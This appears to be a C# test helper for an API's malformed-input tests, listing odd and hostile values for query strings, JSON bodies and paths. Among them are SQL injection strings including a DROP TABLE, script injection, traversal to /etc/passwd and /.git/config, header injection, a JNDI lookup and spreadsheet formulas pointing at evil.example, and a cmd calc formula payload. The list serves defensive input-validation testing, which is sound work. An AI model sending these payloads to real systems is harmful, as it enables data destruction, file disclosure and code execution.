namespace SmartSteps.Api.Tests.Malformed;

/// <summary>Values that go wrong somewhere, and values that are right for parameters by their name.</summary>
internal static class Words
{
    /// <summary>For queries and paths, escaped as they go over the wire.</summary>
    public static readonly IReadOnlyList<string> InTargets =
    [
        "%00", "a%00b", "%FF%FE", "%C0%AF", "%E2%80%AE", "%", "%zz", "%u0041", "-1", "0x10", "%EF%BC%99", "99999999999999999999", "1e999", "NaN", "-Infinity", "null", "%5B%5D", "%7B%7D",
        "2026-02-30", "2026-13-01", "2026-03-02T25", "2026-03-29T02:30", "2026-03-02T14:00:00%2B99:99", "0000-00-00", "'%20OR%201=1--", "1;DROP%20TABLE%20zones", "%22);%20SELECT%20*%20FROM%20keys--",
        "=HYPERLINK(%22http://evil.example%22)", "%40SUM(1+1)*cmd%7C'%20/C%20calc'!A0", "%3Cscript%3Ealert(1)%3C/script%3E", "..%2F..%2Fetc%2Fpasswd", "%252e%252e%252f", "$%7Bjndi:ldap://evil.example%7D",
        "%0D%0AX-Injected:%201", "%F0%9F%98%80", new string('9', 2000), new string('%', 300),
    ];

    /// <summary>For members of JSON bodies, as JSON.</summary>
    public static readonly IReadOnlyList<string> InBodies =
    [
        "null", "true", "-1", "1e999", "-0.5", "123456789012345678901234567890", "\"\"", "\"NaN\"", "[]", "{}", "[[[[]]]]", "{\"a\":{\"b\":null}}", "\"\\u0000\"", "\"\\ud800\"", "\"2026-02-30\"",
        "\"2026-03-29T02:30:00\"", "\"' OR 1=1 --\"", "\"=HYPERLINK(\\\"http://evil.example\\\")\"", "\"..\\/..\\/etc\\/passwd\"", "\"\\r\\nX-Injected: 1\"", "\"<script>alert(1)</script>\"",
    ];

    /// <summary>Paths that lead nowhere, or somewhere else.</summary>
    public static readonly IReadOnlyList<string> Tricks =
    [
        "..%2f", "%2e%2e/", "..;/", ";x=1", "//", "/.", "/..", "/%2e%2e/%2e%2e/etc/passwd", "\\..\\..\\", "%5c..%5c", "/%00", "%2f%2f", "~", "/.git/config", "::$DATA", "%20", "?%00", "/./../",
    ];

    private static readonly Dictionary<string, string> Right = new(StringComparer.Ordinal)
    {
        ["market"] = "city", ["id"] = "square", ["from"] = "2026-03-02", ["to"] = "2026-03-03", ["hour"] = "2026-03-02T14", ["date"] = "2026-03-02", ["extension"] = "csv", ["with"] = "station",
        ["otherFrom"] = "2026-03-09", ["otherTo"] = "2026-03-10", ["tile"] = "120210233222", ["z"] = "12", ["x"] = "2200", ["y"] = "1343", ["format"] = "json", ["limit"] = "3", ["days"] = "7",
        ["first"] = "square", ["second"] = "station", ["month"] = "2026-03", ["collection"] = "zones", ["path"] = "0/000",
    };

    /// <summary>A value that may be right for a parameter of this name.</summary>
    public static string RightFor(string name) => Right.GetValueOrDefault(name, "x1");

    /// <summary>True where a right value is known.</summary>
    public static bool HasRightFor(string name) => Right.ContainsKey(name);
}
